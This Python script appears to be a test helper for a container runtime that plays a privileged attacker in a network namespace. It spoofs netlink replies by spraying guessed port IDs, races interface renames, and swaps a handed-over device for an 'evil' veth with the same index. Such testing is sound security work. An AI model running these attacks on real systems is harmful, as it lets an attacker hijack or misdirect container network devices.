# SPDX-License-Identifier: LGPL-2.1-or-later
"""Somebody with CAP_NET_ADMIN in a network namespace to which a device is handed over. Run there, with

    link INDEX      answers the runtime's requests before the kernel can: with the link of that number
    error           the same, with an error
    rename NAME     renames the device that comes, and another one to what that was called
    replace PID     moves it away, to the network namespace of that process, and makes one of the same number

It prints a line once it goes, and ends when its input does.
"""

import errno
import json
import select
import socket
import struct
import subprocess
import sys

NLMSG_ERROR, RTM_NEWLINK = 2, 16
AROUND = 40  # processes: a port has the number of who sent first


def one(number, body):
    return struct.pack("=IHHII", 16 + len(body), number, 0, 0, 0) + body


def end_of_answer(error):
    return one(NLMSG_ERROR, struct.pack("=iIHHII", -error, 16, 16, 0, 0, 0))


def answers(text):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.NETLINK_ROUTE) as attacker:
        while not ended():
            with open("/proc/loadavg", encoding="ascii") as file:
                newest = int(file.read().split()[-1])
            for port in range(max(1, newest - AROUND), newest + AROUND):
                try:
                    attacker.sendto(text, (port, 0))
                except OSError:
                    pass


def ended():
    return select.select([sys.stdin], [], [], 0)[0]


def ip(*words):
    return subprocess.run(["ip", *map(str, words)], check=False, stdin=subprocess.DEVNULL, capture_output=True,
                          text=True).stdout


def arrivals():
    seen = set()
    while not ended():
        for link in json.loads(ip("-json", "link") or "[]"):
            if link["ifname"].startswith("ocirt") and link["ifname"] not in seen:
                seen.add(link["ifname"])
                yield link


def main(kind, *words):
    print("goes", flush=True)
    if kind == "link":
        link = struct.pack("=BxHiII", 0, 1, int(words[0]), 0, 0)
        answers(one(RTM_NEWLINK, link) + end_of_answer(0))
    if kind == "error":
        answers(end_of_answer(errno.EPERM))
    for link in arrivals():
        if kind == "rename":
            ip("link", "set", link["ifname"], "name", "gone")
            ip("link", "set", words[0], "name", link["ifname"])
        else:
            ip("link", "set", link["ifname"], "netns", words[0])
            ip("link", "add", "evil", "index", link["ifindex"], "type", "veth", "peer", "name", "second")


if __name__ == "__main__":
    main(*sys.argv[1:])
